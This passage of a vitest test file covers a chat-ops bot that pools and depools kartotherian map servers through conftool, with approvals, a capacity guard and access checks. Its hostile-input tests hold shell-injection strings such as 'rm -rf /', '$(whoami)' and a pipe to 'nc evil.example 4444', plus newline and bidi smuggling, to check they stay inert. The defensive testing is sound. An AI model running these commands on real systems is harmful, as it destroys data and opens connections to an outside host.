import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { seedEntries } from '../../adapters/simulated/seed-entries.js';
import { renderOutcome } from '../../bot/render-outcome.js';
import { createDispatcher } from '../../commands/dispatch.js';
import type { Outcome } from '../../commands/outcome.js';
import { buildRegistry } from '../../commands/registry.js';
import type { Config } from '../../config/schema.js';
import type { Caller } from '../../core/access.js';
import { conftoolPath } from '../../core/actions.js';
import type { Inventory } from '../../core/inventory.js';
import { loadShippedConfig, shippedInventories } from '../helpers/config.js';
import { asDryRun } from '../helpers/dry-run.js';
import { callerFor, FakePooling, makeDeps } from '../helpers/fakes.js';
import type { Inspircd } from '../helpers/inspircd.js';
import { testIrcSettings } from '../helpers/irc-settings.js';

const shipped = await loadShippedConfig();

const K = '!kartotherian';
const k8sPool = { lvsService: 'kartotherian-k8s-ssl', dc: 'eqiad', cluster: 'maps', conftoolService: 'kartotherian-k8s-ssl' };
const sslPool = { lvsService: 'kartotherian-ssl', dc: 'eqiad', cluster: 'maps', conftoolService: 'kartotherian-ssl' };
const WORKER_PATH = '/conftool/v1/pools/eqiad/maps/kartotherian-k8s-ssl/wikikube-worker1001.eqiad.wmnet';

/** A dispatcher over fakes; `say(person, line)` types a line as a configured person (or a stranger). */
function setup(options: { config?: Config; edit?: (config: Config) => void } = {}) {
  const config = structuredClone(options.config ?? shipped);
  options.edit?.(config);
  const inventories: ReadonlyMap<string, Inventory> = shippedInventories(config);
  const fakes = makeDeps(config, inventories);
  const unexpected: unknown[] = [];
  const dispatch = createDispatcher({ config, inventories, deps: fakes.deps, onUnexpectedError: (error) => unexpected.push(error) });
  const say = async (person: string | undefined, text: string, overrides: Partial<Caller> = {}) => rendered(await dispatch.line({ text, caller: callerFor(person, overrides) }));
  return { ...fakes, config, unexpected, dispatch, say };
}

/** What the channel reads: the outcome as every transport renders it. */
function rendered(outcome: Outcome | undefined): string | undefined {
  return outcome === undefined ? undefined : renderOutcome(outcome).text;
}

/** Everything that would change the world: request store, queue, pool writes. */
function sideEffects(world: ReturnType<typeof setup>) {
  return { created: world.requests.created.length, queue: world.queue.calls.length, writes: world.pooling.writes.length };
}

describe('dispatch: routing', () => {
  it('ignores a line that does not start with !', async () => {
    const world = setup();
    expect(await world.say('alice', 'kartotherian pool wikikube1001')).toBeUndefined();
    expect(await world.say('alice', 'hey !kartotherian pool wikikube1001')).toBeUndefined();
    expect(await world.say('alice', '')).toBeUndefined();
  });

  it("stays quiet for another bot's commands", async () => {
    const world = setup();
    expect(await world.say('alice', '!otherbot foo')).toBeUndefined();
    expect(await world.say('alice', '!status')).toBeUndefined();
    expect(await world.say('alice', '!help')).toBeUndefined();
    expect(world.audit.entries).toEqual([]);
  });

  it('takes the service name in any case and with leading spaces', async () => {
    const world = setup();
    expect(await world.say('alice', `   !KARTOTHERIAN STATUS`)).toMatch(/^kartotherian eqiad · /);
  });

  it('answers an unknown command with a pointer to help, echoing it cut short', async () => {
    const world = setup();
    expect(await world.say('alice', `${K} frobnicate`)).toBe('✖ No command “frobnicate”; try !kartotherian help.');
    const long = await world.say('alice', `${K} ${'x'.repeat(100)}`);
    expect(long).toMatch(/^✖ No command “x{30}…”/);
  });

  // Regression: the dispatcher tested `head in config.services`, which is true for
  // Object.prototype members, so cutover answered `!constructor` as if it were a service, and
  // `!constructor pool …` crashed in rolesOf().
  it('stays quiet for !constructor, which is not a service', async () => {
    const world = setup();
    expect(await world.say('alice', '!constructor')).toBeUndefined();
  });

  it('stays quiet for !constructor pool maps1005 instead of failing inside', async () => {
    const world = setup();
    expect(await world.say('alice', '!constructor pool maps1005')).toBeUndefined();
    expect(world.unexpected).toEqual([]);
  });
});

describe('dispatch: help', () => {
  it('lists every command with its usage', async () => {
    const world = setup();
    const reply = (await world.say('dave', `${K} help`)) ?? '';
    const lines = reply.split('\n');
    expect(lines[0]).toBe('!kartotherian commands (HOST may be short: wikikube1001, maps1005):');
    for (const spec of buildRegistry().values()) {
      const prefix = spec.scope === 'request' ? '!' : `${K} `;
      expect(lines).toContain(`${prefix}${spec.usage} — ${spec.summary}`);
    }
    expect(lines).toHaveLength(1 + buildRegistry().size);
    for (const name of ['status', 'pool', 'depool', 'approve', 'deny', 'jobs', 'help']) expect(reply).toContain(name);
  });

  it('is what the bare service name shows', async () => {
    const world = setup();
    expect(await world.say(undefined, K)).toBe(await world.say(undefined, `${K} help`));
  });

  it('explains one command, flagging the ones that change production', async () => {
    const world = setup();
    expect(await world.say('dave', `${K} help pool`)).toMatch(/^!kartotherian pool HOST .* \(changes production: approval, lock, audit\)$/);
    expect(await world.say('dave', `${K} help status`)).not.toContain('changes production');
  });
});

describe('dispatch: pool', () => {
  it('files a pending request for alice, schedules its expiry and names the other approvers', async () => {
    const world = setup();
    const reply = (await world.say('alice', `${K} pool wikikube1001 step 4 of T378944`)) ?? '';

    expect(world.requests.created).toHaveLength(1);
    const request = world.requests.created[0];
    expect(request).toMatchObject({
      service: 'kartotherian',
      state: 'pending',
      reason: 'step 4 of T378944',
      requester: { person: 'alice', transport: 'irc', channel: '#wikimedia-operations' },
      approvalsRequired: 1,
      approvals: [],
      action: { kind: 'set-pooled', verb: 'pool', fqdn: 'wikikube-worker1001.eqiad.wmnet', pool: k8sPool, changes: { pooled: 'yes', weight: 10 } },
      createdAt: world.clock.now(),
      expiresAt: world.clock.now() + 900_000,
    });
    expect(world.queue.calls.map((call) => [call.method, call.request.id])).toEqual([['scheduleExpiry', request?.id]]);
    expect(world.pooling.writes).toEqual([]);

    expect(reply).toMatch(/^⏳ req1: alice asks to pool wikikube-worker1001\.eqiad\.wmnet into kartotherian-k8s-ssl \(eqiad\) at weight 10, now pooled=inactive weight=0/);
    expect(reply).toContain('!approve req1 or !deny req1');
    expect(reply).toContain('expires in 15m (12:15 UTC)');
    const approvers = /needs 1 approval from (.*?):/.exec(reply)?.[1];
    expect(approvers).toBe('bob or carol');
    expect(world.audit.events()).toEqual(['request.created', 'command']);
    expect(world.audit.entries[0]).toMatchObject({ who: 'alice', where: 'irc:#wikimedia-operations', requestId: 'req1' });
    expect(world.audit.entries[0]?.detail).toContain(`${WORKER_PATH}: {"pooled":"inactive","weight":0} → {"pooled":"yes","weight":10}`);
  });

  it('leaves the requester out of the approvers, whoever asks', async () => {
    const world = setup();
    const reply = await world.say('bob', `${K} pool wikikube1002`);
    expect(reply).toContain('needs 1 approval from carol:');
  });

  it('records the task and says "no reason given" when there is none', async () => {
    const world = setup();
    const reply = await world.say('alice', `${K} pool wikikube1001 --task T378944 --weight 5`);
    expect(world.requests.created[0]).toMatchObject({ reason: 'no reason given', task: 'T378944', action: { changes: { pooled: 'yes', weight: 5 } } });
    expect(reply).toContain('no reason given (T378944)');
  });

  it('keeps shell metacharacters in a reason as inert text', async () => {
    const world = setup();
    await world.say('alice', `${K} pool wikikube1001 $(rm -rf /); echo pwned | sh`);
    expect(world.requests.created[0]?.reason).toBe('$(rm -rf /); echo pwned | sh');
    expect(world.pooling.writes).toEqual([]);
  });

  it('with --dry-run creates nothing and shows the request it would file, and the exact conftool write', async () => {
    const world = setup();
    const reply = (await world.say('alice', `${K} pool wikikube1001 --dry-run`)) ?? '';
    // The announcement the request would make, marked and without an id, then the exact write.
    expect(reply).toBe(
      'DRY RUN, nothing filed: alice asks to pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10, now pooled=inactive weight=0 · ' +
        'no reason given · needs 1 approval from bob or carol · expires in 15m (12:15 UTC)\n' +
        `  then write ${WORKER_PATH}: {"pooled":"inactive","weight":0} → {"pooled":"yes","weight":10} and read it back`,
    );
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
    expect(world.pooling.peek(WORKER_PATH)).toEqual({ pooled: 'inactive', weight: 0 });
  });

  it('a dry run is the announcement the request would make, for a pool and for a depool', async () => {
    const world = setup();
    const dryPool = (await world.say('alice', `${K} pool wikikube1001 --task T378944 --dry-run new workers`)) ?? '';
    const dryDepool = (await world.say('alice', `${K} depool maps1005 --service kartotherian-ssl --dry-run`)) ?? '';
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });

    expect(dryPool.split('\n')[0]).toBe(asDryRun((await world.say('alice', `${K} pool wikikube1001 --task T378944 new workers`)) ?? '', 'req1'));
    const depool = (await world.say('alice', `${K} depool maps1005 --service kartotherian-ssl`)) ?? '';
    expect(dryDepool.split('\n')[0]).toBe(asDryRun(depool, 'req2'));
    // What a depool's approver sees: health now, the proven workers, the arithmetic.
    expect(dryDepool).toMatch(/^DRY RUN, nothing filed: alice asks to depool maps1005\.eqiad\.wmnet from kartotherian-ssl \(eqiad\), now pooled=yes weight=10 · health now: no metrics configured · proven workers: none · after: .* · no reason given · needs 1 approval from bob or carol · expires in 15m \(12:15 UTC\)\n {2}then write /);
  });

  it('queues at once in a dry run too, when no approval is needed: it says so and queues nothing', async () => {
    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { approvers_required: 0 }) });
    expect((await world.say('alice', `${K} pool wikikube1001 --dry-run`))?.split('\n')[0]).toBe(
      'DRY RUN, nothing queued: pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10, now pooled=inactive weight=0 · no reason given',
    );
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
  });

  it('says there is nothing to do for a host that is already pooled, and files nothing', async () => {
    const world = setup();
    const reply = await world.say('alice', `${K} pool maps1005 --service kartotherian-ssl`);
    expect(reply).toBe('maps1005 is already pooled=yes weight=10 in kartotherian-ssl (eqiad); nothing to do.');
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
  });

  it('files a weight change for a pooled host', async () => {
    const world = setup();
    await world.say('alice', `${K} pool maps1005 --service kartotherian-ssl --weight 20`);
    expect(world.requests.created[0]?.action).toMatchObject({ changes: { pooled: 'yes', weight: 20 } });
  });

  it('refuses a host the pool has no conftool object for', async () => {
    const world = setup();
    const empty = new FakePooling();
    const dispatch = createDispatcher({ config: world.config, inventories: shippedInventories(world.config), deps: { ...world.deps, pooling: empty }, onUnexpectedError: () => undefined });
    const reply = rendered(await dispatch.line({ text: `${K} pool wikikube1004`, caller: callerFor('alice') }));
    expect(reply).toBe('✖ wikikube-worker1004.eqiad.wmnet has no conftool object in kartotherian-k8s-ssl (eqiad); conftool-data in puppet has to add it (as inactive) first.');
    expect(empty.calls).toEqual([{ method: 'get', path: conftoolPath(k8sPool, 'wikikube-worker1004.eqiad.wmnet') }]);
  });

  it('queues at once when the service needs no approval', async () => {
    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { approvers_required: 0 }) });
    const reply = await world.say('alice', `${K} pool wikikube1001`);
    expect(reply).toMatch(/^▶ req1 queued: pool wikikube-worker1001/);
    expect(world.requests.created[0]?.state).toBe('approved');
    expect(world.queue.calls.map((call) => call.method)).toEqual(['enqueue']);
  });

  it('refuses when not enough other people could approve', async () => {
    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { approvers_required: 3 }) });
    const reply = await world.say('alice', `${K} pool wikikube1001`);
    // The one gate every request is built with (core/request-draft.ts), worded once.
    expect(reply).toBe('✖ This needs 3 approvers besides you; the config has 2.');
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
  });

  it('requires a reason when the service says so', async () => {
    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { require_reason: true }) });
    expect(await world.say('alice', `${K} pool wikikube1001`)).toBe('✖ A reason is required: pool wikikube-worker1001 <reason> [--task T123456].');
    expect(await world.say('alice', `${K} pool wikikube1001 "   "`)).toMatch(/^✖ A reason is required/);
    expect(world.requests.created).toEqual([]);
    expect(await world.say('alice', `${K} pool wikikube1001 new workers`)).toMatch(/^⏳ req1/);
  });

  // Regression: pool/depool have both a `reason` rest positional and a --reason flag; the
  // trailing words used to overwrite the flag, so "planned work" silently vanished from the
  // request and the audit log.
  it('does not silently drop a --reason when trailing words follow', async () => {
    const world = setup();
    const reply = await world.say('alice', `${K} pool wikikube1001 --reason "planned work" extra`);
    for (const request of world.requests.created) expect(request.reason).toContain('planned work');
    if (world.requests.created.length === 0) expect(reply).toMatch(/^✖ reason given twice/);
  });
});

describe('dispatch: depool and the capacity guard', () => {
  it('files depools of maps hosts one by one in a 6-host pool until the 4th would break the threshold', async () => {
    const world = setup();
    const replies: string[] = [];
    for (const host of ['maps1005', 'maps1006', 'maps1007', 'maps1008']) {
      const reply = (await world.say('alice', `${K} depool ${host} --service kartotherian-ssl`)) ?? '';
      replies.push(reply);
      // The request ran: conftool now holds what it asked for.
      if (reply.startsWith('⏳')) world.pooling.put(conftoolPath(sslPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
    }
    expect(replies.slice(0, 3).every((reply) => reply.startsWith('⏳'))).toBe(true);
    expect(replies[3]).toBe(
      "✖ Refused: depool maps1008: only 2 host(s) proven to serve would stay in kartotherian-ssl (eqiad), below pybal's floor of 3 · " +
        'after: 2 serving of 6 counted (inactive excluded) < floor 3 = ceil(6 × 0.5) · pybal could eject 0 failing host(s); unproven workers: 0. Pool another host first.',
    );
    expect(world.requests.created).toHaveLength(3);
    expect(world.requests.created.map(({ action }) => (action.kind === 'set-pooled' ? [action.verb, action.fqdn, action.changes] : action.kind))).toEqual(
      ['maps1005', 'maps1006', 'maps1007'].map((host) => ['depool', `${host}.eqiad.wmnet`, { pooled: 'no' }]),
    );
    expect(world.pooling.calls.filter((call) => call.method === 'listPool')).toHaveLength(4);
  });

  it('does not count inactive workers: the k8s pool in eqiad has 6 members, not 10', async () => {
    const world = setup();
    for (const host of ['maps1005', 'maps1006', 'maps1007']) world.pooling.put(conftoolPath(k8sPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
    expect(await world.say('alice', `${K} depool maps1008 --service kartotherian-k8s-ssl`)).toMatch(/^✖ Refused: depool maps1008: only 2 host\(s\) proven to serve .* · after: 2 serving of 6 counted \(inactive excluded\) < floor 3 /);
  });

  it('refuses even a dry run of an unsafe depool', async () => {
    const world = setup();
    for (const host of ['maps2005', 'maps2006', 'maps2007']) world.pooling.put(conftoolPath({ ...sslPool, dc: 'codfw' }, `${host}.codfw.wmnet`), { pooled: 'no', weight: 10 });
    expect(await world.say('alice', `${K} depool maps2008 --service kartotherian-ssl --dry-run`)).toMatch(/^✖ Refused/);
  });

  it('says there is nothing to do for a host that is already depooled', async () => {
    const world = setup();
    world.pooling.put(conftoolPath(sslPool, 'maps1005.eqiad.wmnet'), { pooled: 'no', weight: 10 });
    expect(await world.say('alice', `${K} depool maps1005 --service kartotherian-ssl`)).toBe('maps1005 is already pooled=no weight=10 in kartotherian-ssl (eqiad); nothing to do.');
    expect(world.requests.created).toEqual([]);
  });

  // Regression: a depool of an *inactive* host (inactive → no) used to be filed for approval,
  // skipping the capacity guard (reducesCapacity() is false), although pooled=no adds the host
  // to pybal's total: here 3 maps are yes and 3 no, exactly at the floor (3 of 6); the write
  // would make it 3 of 7 with a floor of 4. jobs/pool-writer.ts treats it as a no-op, and
  // the decision layer has to answer the same.
  it('says there is nothing to do for a depool of an inactive host, as the executor would', async () => {
    const world = setup();
    for (const host of ['maps1005', 'maps1006', 'maps1007']) world.pooling.put(conftoolPath(k8sPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
    const reply = await world.say('alice', `${K} depool wikikube1001`);
    expect(reply).toMatch(/nothing to do/);
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
  });
});

describe('dispatch: who may do what', () => {
  it.each([
    ['a viewer', 'dave', 'dave', { who: 'dave', as: 'irc account dave' }],
    // The audit never names a stranger as a person: the nick is kept, marked unidentified.
    ['someone the config does not know', undefined, 'mallory', { who: 'mallory (unidentified irc nick)' }],
  ])('refuses %s a pool and audits command.refused', async (_who, person, display, identity) => {
    const world = setup();
    const reply = await world.say(person, `${K} pool wikikube1001`, { display });
    expect(reply).toBe(`✖ ${display} may not run "pool" on kartotherian (needs the operator or admin role).`);
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
    expect(world.audit.entries).toEqual([
      { event: 'command.refused', service: 'kartotherian', ...identity, where: 'irc:#wikimedia-operations', detail: '!kartotherian pool wikikube1001' },
    ]);
  });

  it('refuses an approver-only person a pool', async () => {
    const world = setup();
    expect(await world.say('carol', `${K} depool maps1005 --service kartotherian`)).toMatch(/^✖ carol may not run "depool"/);
  });

  it('checks the right before parsing, so a refused person learns nothing about hosts', async () => {
    const world = setup();
    expect(await world.say('dave', `${K} pool no-such-host`)).toMatch(/^✖ dave may not run "pool"/);
  });

  it('lets anyone run status when read_only is anyone', async () => {
    const world = setup();
    const reply = (await world.say(undefined, `${K} status`, { display: 'mallory' })) ?? '';
    // Issue 14: at most four lines in a channel, a line per DC with pooled/members per group in each pool.
    expect(reply.split('\n')).toEqual([
      'kartotherian eqiad · kartotherian maps 6/6 · kartotherian-ssl maps 6/6 · kartotherian-k8s-ssl maps 6/6 wikikube 0/4',
      'kartotherian codfw · kartotherian maps 6/6 · kartotherian-ssl maps 6/6 · kartotherian-k8s-ssl maps 6/6 wikikube 0/4',
      'lock free · nothing waiting · more: !kartotherian status --dc DC | --service LVS | --full',
    ]);
    const full = (await world.say(undefined, `${K} status --full`, { display: 'mallory' })) ?? '';
    expect(full.split('\n')).toEqual([
      'kartotherian · pool state from fake conftool',
      'eqiad kartotherian:6533 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010]',
      'eqiad kartotherian-ssl:443 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010]',
      'eqiad kartotherian-k8s-ssl:6543 — pooled 6, depooled 0, inactive 4 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010] | inactive: wikikube-worker[1001-1004]',
      'codfw kartotherian:6533 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010]',
      'codfw kartotherian-ssl:443 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010]',
      'codfw kartotherian-k8s-ssl:6543 — pooled 6, depooled 0, inactive 4 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010] | inactive: wikikube-worker[2001-2004]',
      'lock: free',
      'waiting: nothing',
    ]);
    expect(world.audit.entries).toEqual([]);
  });

  it('refuses status to strangers when read_only is configured', async () => {
    const world = setup({ edit: (config) => void (config.access.read_only = 'configured') });
    expect(await world.say(undefined, `${K} status`, { display: 'mallory' })).toBe('✖ mallory may not run "status" on kartotherian (needs a role on kartotherian).');
    expect(await world.say('dave', `${K} status --dc codfw --service kartotherian`)).toMatch(/^kartotherian · pool state/);
  });

  it('shows the lock and what is waiting in status', async () => {
    const world = setup();
    await world.say('alice', `${K} pool wikikube1001`);
    world.locks.held.set('kartotherian', { holder: 'worker-1', requestId: 'req0', since: world.clock.now() - 90_000 });
    world.clock.advance(60_000);
    const reply = (await world.say('dave', `${K} status --dc eqiad --service kartotherian-k8s-ssl`)) ?? '';
    expect(reply.split('\n').slice(-2)).toEqual([
      'lock: held by req0 (worker-1) for 3m',
      'waiting: req1 pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10 · alice · needs 1 approval, expires in 14m',
    ]);
  });

  // Regression: Inventory.lvsService() indexed a plain object, so `--service constructor` (a
  // valid slug) found Object.prototype.constructor and crashed with a TypeError.
  it.each([`${K} pool maps1005 --service constructor`, `${K} status --service constructor`])('refuses %j as an unknown LVS service', async (line) => {
    const world = setup();
    expect(await world.say('alice', line)).toMatch(/^✖ Unknown LVS service "constructor"/);
    expect(world.unexpected).toEqual([]);
  });
});

describe('dispatch: approve and deny', () => {
  async function withRequest(requester = 'alice') {
    const world = setup();
    const reply = (await world.say(requester, `${K} pool wikikube1001 new capacity`)) ?? '';
    expect(reply).toMatch(/^⏳ req1:/);
    return world;
  }

  it('!approve by bob approves the one waiting request and queues it', async () => {
    const world = await withRequest();
    world.clock.advance(30_000);
    const reply = await world.say('bob', '!approve');
    expect(reply).toBe('👍 bob approved req1 (1/1) · queued: pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10');
    expect(world.queue.enqueued.map((request) => [request.id, request.state])).toEqual([['req1', 'approved']]);
    expect((await world.requests.get('req1'))?.approvals).toEqual([{ person: 'bob', display: 'bob', transport: 'irc', at: world.clock.now() }]);
    expect(world.audit.events()).toContain('approval.granted');
    expect(world.pooling.writes).toEqual([]);
  });

  it('!approve ID works from another channel, and !kartotherian approve too', async () => {
    const world = await withRequest();
    expect(await world.say('carol', `${K} approve req1`, { transport: 'slack', channel: 'C0SRE' })).toMatch(/^👍 carol approved req1/);
    expect(world.queue.enqueued).toHaveLength(1);
  });

  it('refuses alice approving her own request with the two-person rule, and queues nothing', async () => {
    const world = await withRequest();
    expect(await world.say('alice', '!approve')).toBe('✖ You asked for req1; someone else has to approve it.');
    expect(world.queue.enqueued).toEqual([]);
    expect((await world.requests.get('req1'))?.state).toBe('pending');
    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'approval.refused', requestId: 'req1', detail: 'self-approval' });
  });

  it('refuses an operator who is not an approver, on a request that is not theirs', async () => {
    const world = await withRequest('bob');
    expect(await world.say('alice', '!approve req1')).toBe('✖ alice may not approve changes to kartotherian.');
    expect(world.queue.enqueued).toEqual([]);
    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'approval.refused', requestId: 'req1', detail: 'not an approver' });
  });

  it('refuses an approver approving their own request, even from another transport', async () => {
    const world = await withRequest('bob');
    const reply = await world.say('bob', '!approve req1', { transport: 'slack', display: 'Bob B.', channel: 'C0SRE' });
    expect(reply).toBe('✖ You asked for req1; someone else has to approve it.');
    expect(world.queue.enqueued).toEqual([]);
    expect((await world.requests.get('req1'))?.state).toBe('pending');
    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'approval.refused', who: 'bob', where: 'slack:C0SRE' });
  });

  it('refuses someone the config does not know, even with an approver’s nick', async () => {
    const world = await withRequest();
    expect(await world.say(undefined, '!approve req1', { display: 'bob' })).toBe('✖ bob may not approve changes to kartotherian.');
    expect(world.queue.enqueued).toEqual([]);
  });

  it('refuses a second approval of an approved request', async () => {
    const world = await withRequest();
    await world.say('bob', '!approve req1');
    expect(await world.say('carol', '!approve req1')).toBe('✖ Request req1 is already approved.');
    expect(world.queue.enqueued).toHaveLength(1);
  });

  it('marks a request expired when someone approves it too late', async () => {
    const world = await withRequest();
    world.clock.advance(900_000);
    expect(await world.say('bob', '!approve req1')).toBe('✖ Request req1 expired; nothing was changed.');
    expect((await world.requests.get('req1'))?.state).toBe('expired');
    expect(world.queue.enqueued).toEqual([]);
  });

  it('asks which request when several wait in the channel', async () => {
    const world = await withRequest();
    await world.say('alice', `${K} pool wikikube1002`);
    expect(await world.say('bob', '!approve')).toBe('✖ 2 requests are waiting (req1, req2); say which one.');
    expect(await world.say('bob', '!approve #REQ2')).toMatch(/^👍 bob approved req2/);
  });

  it('approves without an id when only one of the waiting requests is one the approver may approve (issue 14)', async () => {
    const world = await withRequest();
    await world.say('bob', `${K} pool wikikube1002 his own`);
    // req2 is bob's own: req1 is the only one bob could mean.
    expect(await world.say('bob', '!approve')).toMatch(/^👍 bob approved req1/);
    expect(await world.say('carol', '!approve')).toMatch(/^👍 carol approved req2/);
  });

  it('takes `!deny REASON` without an id as a deny of the one waiting request, for that reason (issue 14)', async () => {
    const world = await withRequest();
    expect(await world.say('carol', '!deny cleanup first')).toBe(
      '👎 denied req1 by carol (cleanup first): pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10. Nothing was changed.',
    );
    expect(await world.say('carol', '!deny zzzz')).toBe('✖ There is no request zzzz. Recent ones: !kartotherian jobs');
  });

  it('drops `--` from a reason: it ends the options, as in a shell (issue 14)', async () => {
    const world = setup();
    expect(await world.say('alice', `${K} pool wikikube1001 -- reason T378944`)).toMatch(/· reason T378944 ·|reason T378944/);
    expect((await world.requests.get('req1'))?.reason).toBe('reason T378944');
  });

  it('says so when nothing waits, or the id is unknown', async () => {
    const world = setup();
    expect(await world.say('bob', '!approve')).toBe('✖ Nothing here is waiting for approval.');
    expect(await world.say('bob', '!approve zzzz')).toBe('✖ There is no request zzzz. Recent ones: !kartotherian jobs');
  });

  it('!deny by the requester withdraws the request', async () => {
    const world = await withRequest();
    const reply = await world.say('alice', '!deny');
    expect(reply).toBe('↩ withdrawn req1 by alice: pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10. Nothing was changed.');
    expect(await world.requests.get('req1')).toMatchObject({ state: 'denied', decidedBy: { person: 'alice' } });
    expect(world.audit.events()).toContain('request.withdrawn');
    expect(world.queue.enqueued).toEqual([]);
  });

  it('!deny by an approver denies, with the reason', async () => {
    const world = await withRequest();
    expect(await world.say('carol', '!deny req1 not during the switchover')).toBe(
      '👎 denied req1 by carol (not during the switchover): pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10. Nothing was changed.',
    );
    expect(world.audit.events()).toContain('request.denied');
    expect(await world.say('bob', '!approve req1')).toBe('✖ Request req1 is already denied.');
  });

  it("refuses !deny from a viewer of someone else's request", async () => {
    const world = await withRequest();
    expect(await world.say('dave', '!deny req1')).toBe('✖ dave may not deny changes to kartotherian.');
    expect((await world.requests.get('req1'))?.state).toBe('pending');
  });

  it('lists requests in jobs', async () => {
    const world = await withRequest();
    await world.say('bob', '!approve');
    world.clock.advance(120_000);
    expect(await world.say('dave', `${K} jobs`)).toBe(
      '▶ req1 approved 2m ago · pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10 · alice, approved by bob',
    );
  });
});

describe('dispatch: replies never carry a Slack broadcast', () => {
  // Regression: printable() strips `<` and `>` so an echo can never become `<!channel>`, but these
  // replies used to echo user text without it: help.ts (unknown command name),
  // request-pool-change.ts (the reason in the ⏳ line) and deny.ts (the reason in the 👎 line).
  it('!kartotherian help <!channel>', async () => {
    const world = setup();
    expect(await world.say('alice', `${K} help <!channel>`)).not.toContain('<!channel>');
  });

  it('a pool reason of <!channel>', async () => {
    const world = setup();
    expect(await world.say('alice', `${K} pool wikikube1001 <!channel> look`)).not.toContain('<!channel>');
  });

  it('a deny reason of <!here>', async () => {
    const world = setup();
    await world.say('alice', `${K} pool wikikube1001`);
    expect(await world.say('carol', '!deny req1 <!here>')).not.toContain('<!here>');
  });
});

describe('dispatch: unexpected failures', () => {
  it('turns a failing backend into a short reply and hands the error to the log', async () => {
    class BrokenPooling extends FakePooling {
      override async get(): Promise<undefined> {
        throw new Error('ECONNREFUSED 10.64.0.1:2379');
      }
    }
    const world = setup();
    const errors: unknown[] = [];
    const dispatch = createDispatcher({
      config: world.config,
      inventories: shippedInventories(world.config),
      deps: { ...world.deps, pooling: new BrokenPooling() },
      onUnexpectedError: (error) => errors.push(error),
    });
    const reply = rendered(await dispatch.line({ text: `${K} pool wikikube1001`, caller: callerFor('alice') }));
    expect(reply).toBe('✖ Something failed inside cutover; it is in the bot log. Check !status before retrying.');
    expect(reply).not.toContain('10.64.0.1');
    expect(errors).toHaveLength(1);
  });
});

describe('dispatch: hostile input', () => {
  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
  const UNPRINTABLE = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/;
  const longReason = `$(rm -rf /) ${'because '.repeat(36)}`.trim();

  const hostile: [label: string, line: string][] = [
    ['shell command in host', `${K} pool maps1005;rm -rf /`],
    ['command substitution host', `${K} pool $(whoami)`],
    ['backticks host', `${K} pool \`reboot\``],
    ['pipe in host', `${K} pool maps1005|nc evil.example 4444`],
    ['shell in --service', `${K} pool wikikube1001 --service 'kartotherian-k8s-ssl;reboot'`],
    ['substitution in --service=', `${K} pool wikikube1001 --service=$(id)`],
    ['path in --service', `${K} pool wikikube1001 --service '../../x'`],
    ['--weight 0', `${K} pool wikikube1001 --weight 0`],
    ['--weight 1e9', `${K} pool wikikube1001 --weight 1e9`],
    ['--weight -1', `${K} pool wikikube1001 --weight -1`],
    ['--weight NaN', `${K} pool wikikube1001 --weight NaN`],
    ['--weight 2.5', `${K} pool wikikube1001 --weight 2.5`],
    ['--task T12;rm', `${K} pool wikikube1001 --task 'T12;rm'`],
    ['--task with two tasks', `${K} pool wikikube1001 --task 'T1 T2'`],
    ['--task too long', `${K} pool wikikube1001 --task T123456789`],
    ['300-char reason with shell in it', `${K} pool wikikube1001 "${longReason}"`],
    ['300-char --reason', `${K} depool wikikube1001 --reason '${'x'.repeat(300)}'`],
    ['10 kB line', `${K} pool ${'maps1005'.repeat(1250)}`],
    ['10 kB of spaces', `${K} pool${' '.repeat(10_000)}wikikube1001`],
    ['NUL', `${K} pool maps1005\u0000 --service kartotherian-ssl`],
    ['IRC colour codes', `${K} pool \u00034,1maps1005\u0003`],
    ['CTCP', `${K} pool wikikube1001 \u0001ACTION waves\u0001`],
    ['bidi override', `${K} pool wikikube1001 \u202eT378944`],
    ['bidi override in the command', `${K} \u202epool wikikube1001`],
    ['zero-width space', `${K} pool wiki\u200bkube1001`],
    ['newline injection', `${K} pool maps1005\r\nPRIVMSG #wikimedia-operations :hi`],
    ['bare newline', `${K} pool wikikube1001\n!approve`],
    ['Cyrillic look-alike host', `${K} pool m\u0430ps1005 --service kartotherian-ssl`],
    ['fullwidth digits', `${K} pool wikikube\uff11\uff10\uff10\uff11`],
    ['emoji host', `${K} pool \u{1F5FA}\uFE0F1005`],
    ['@channel host', `${K} pool @channel`],
